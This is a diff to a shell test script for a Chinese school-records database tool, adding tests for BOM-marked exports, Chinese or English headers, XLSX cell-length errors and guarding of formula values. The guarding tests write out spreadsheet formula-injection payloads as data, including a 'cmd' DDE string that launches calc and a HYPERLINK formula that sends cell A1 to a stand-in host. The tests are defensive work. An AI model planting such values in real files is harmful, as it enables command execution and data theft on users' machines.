@@ -138,6 +138,78 @@ has "xlsx no-op" "$tmp/out" "无变化:312 行"
 run "export to stdout" 0 export "$DB" --year 2024 --county 369902
 has "export county only" "$tmp/out" "安平"
 
+# Exports Chinese Excel opens safely (issue 9 §4): a UTF-8 BOM, Chinese
+# headers and values by default, the English keys with --headers en;
+# both forms, and both as XLSX, import back as no change.
+bom() { if [ "$(head -c 3 "$2" | od -An -tx1 | tr -d ' ')" = efbbbf ]; then ok "$1"; else no "$1: no UTF-8 BOM"; fi; }
+bom "export csv: BOM" "$tmp/e.csv"
+has "export csv: Chinese header" "$tmp/e.csv" "学校标识码,学校名称,县(市、区)代码,年度,办学类型,所属中心校,"
+has "export csv: Chinese values" "$tmp/e.csv" "2136990101,江城区实验小学,369901,2023,小学,,"
+run "export --headers en" 0 export "$DB" --year 2023 --headers en -o "$tmp/en.csv"
+bom "export en: BOM" "$tmp/en.csv"
+has "export en: keys" "$tmp/en.csv" "school_code,school_name,county_code,year,school_type,parent_code,"
+has "export en: values" "$tmp/en.csv" "2136990101,江城区实验小学,369901,2023,primary,,"
+run "import en export: no-op" 0 import "$DB" "$tmp/en.csv"
+has "en export no-op" "$tmp/out" "无变化:312 行"
+run "export en xlsx" 0 export "$DB" --year 2023 --headers en -o "$tmp/en.xlsx"
+run "import en xlsx: no-op" 0 import "$DB" "$tmp/en.xlsx"
+has "en xlsx no-op" "$tmp/out" "无变化:312 行"
+run "export bad --headers" 2 export "$DB" --year 2023 --headers fr
+
+# Names that are formulas: guarded with one ' in CSV (export and eval),
+# strings in XLSX, and every export imports back to the same names.
+awk -F, 'BEGIN { OFS = "," }
+	NR == 1 { print $0 ",备注"; next }
+	NR == 2 { $2 = "=1+1"; print $0 ",\t=2+2"; next }
+	NR == 3 { $2 = "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\""; print $0 ",-5"; next }
+	NR == 4 { $2 = "+cmd|'"'"' /C calc'"'"'!A0"; print $0 ","; next }
+	NR == 5 { $2 = "@SUM(1+1)"; print $0 ","; next }
+	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/inj.csv"
+IDB=$tmp/inj.db
+"$J" init "$IDB" >/dev/null; "$J" import "$IDB" "$S/areas.csv" "$tmp/inj.csv" >/dev/null
+run "export formulas" 0 export "$IDB" --year 2024 -o "$tmp/inj-e.csv"
+has "guard: =1+1" "$tmp/inj-e.csv" "2136990101,'=1+1,369901,"
+has "guard: HYPERLINK" "$tmp/inj-e.csv" "2136990102,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",369901,"
+has "guard: +cmd" "$tmp/inj-e.csv" "2136990103,'+cmd|' /C calc'!A0,369901,"
+has "guard: @SUM" "$tmp/inj-e.csv" "2136990104,'@SUM(1+1),369901,"
+has "guard: tab" "$tmp/inj-e.csv" ",'	=2+2"
+has "guard: minus" "$tmp/inj-e.csv" ",'-5"
+run "import guarded export: no-op" 0 import "$IDB" "$tmp/inj-e.csv"
+has "guarded export no-op" "$tmp/out" "无变化:312 行"
+run "history: names unchanged" 0 history "$IDB" --school 2136990101 --format json
+jqeq "history: only the first import" '[.[].revision] | unique | map(tostring) | join(",")' 1
+# set reads the row back through the machine-form export: the guard
+# comes off, so only the field set changes.
+run "set beside a formula name" 0 set "$IDB" --school 2136990101 --year 2024 --why test students_primary=1888
+has "set: one field" "$tmp/out" "1 个字段变更"
+run "export formulas en" 0 export "$IDB" --year 2024 --headers en -o "$tmp/inj-en.csv"
+run "import guarded en export: no-op" 0 import "$IDB" "$tmp/inj-en.csv"
+has "guarded en export no-op" "$tmp/out" "无变化:312 行"
+run "export formulas xlsx" 0 export "$IDB" --year 2024 -o "$tmp/inj.xlsx"
+run "import formulas xlsx: no-op" 0 import "$IDB" "$tmp/inj.xlsx"
+has "formulas xlsx no-op" "$tmp/out" "无变化:312 行"
+run "eval csv of formulas" 0 eval "$IDB" --format csv
+bom "eval csv: BOM" "$tmp/out"
+has "eval csv: guarded name" "$tmp/out" ",2136990101,'=1+1,primary,"
+has "eval csv: guarded HYPERLINK" "$tmp/out" ",2136990102,\"'=HYPERLINK("
+
+# A value XLSX cannot hold is an error naming the cell (the sample's 33
+# columns, then 备注 as column 34); no file is left.
+awk 'NR == 1 { print $0 ",备注"; next }
+	NR == 4 { s = ""; for (i = 0; i < 40000; i++) s = s "长"; print $0 "," s; next }
+	{ print $0 "," }' "$S/schools-2024.csv" >"$tmp/long.csv"
+LDB=$tmp/long.db
+"$J" init "$LDB" >/dev/null; "$J" import "$LDB" "$S/areas.csv" "$tmp/long.csv" >/dev/null
+run "xlsx: cell too long" 2 export "$LDB" --year 2024 -o "$tmp/long.xlsx"
+has "too long: names the cell" "$tmp/err" "long.xlsx[学校]:第4行:第34列(备注): 学校 2136990103 的这个值有 40,000 个字符,超过 XLSX 单元格能存的 32,767 个字符"
+has "too long: not written" "$tmp/err" "未写入"
+if [ -e "$tmp/long.xlsx" ]; then no "too long: a file was left"; else ok "too long: no file left"; fi
+run "xlsx: cell too long (en)" 2 --lang en export "$LDB" --year 2024 -o "$tmp/long.xlsx"
+has "too long en" "$tmp/err" "long.xlsx[schools]:line 4:column 34(备注): school 2136990103: the value has 40,000 characters"
+run "csv holds it" 0 export "$LDB" --year 2024 -o "$tmp/long-e.csv"
+run "import long csv: no-op" 0 import "$LDB" "$tmp/long-e.csv"
+has "long csv no-op" "$tmp/out" "无变化:312 行"
+
 # Bad input: clear errors and the database unchanged to the byte.
 before=$(dbsum)
 sed '3s/,369901,/,369999,/' "$S/schools-2024.csv" >"$tmp/unknown.csv"
